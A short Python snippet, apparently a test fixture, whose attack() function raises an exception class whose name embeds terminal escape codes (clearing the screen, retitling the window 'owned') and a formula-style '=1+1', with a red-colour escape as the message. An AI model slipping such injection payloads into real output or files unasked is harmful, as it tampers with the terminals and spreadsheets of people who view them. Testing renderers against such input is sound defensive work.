def attack():
    raise type("\x1b[2J\x1b]0;owned\x07=1+1", (Exception,), {})("\x1b[31m")
